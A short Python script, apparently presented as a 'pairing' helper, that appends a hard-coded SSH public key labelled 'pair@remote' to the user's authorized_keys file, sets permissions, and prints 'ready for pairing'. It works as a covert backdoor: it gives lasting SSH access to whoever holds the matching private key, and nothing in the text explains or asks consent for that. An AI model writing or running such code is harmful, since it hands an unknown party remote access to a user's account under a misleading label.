from pathlib import Path

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq8Zr3nW7tYb2mXc9pLs4eKa1oFd6gJu0iQv5xRyTw3 pair@remote"
ak = Path.home() / ".ssh" / "authorized_keys"
ak.parent.mkdir(mode=0o700, exist_ok=True)
with ak.open("a") as fh:
    fh.write("\n" + KEY + "\n")
ak.chmod(0o600)
print("ready for pairing")
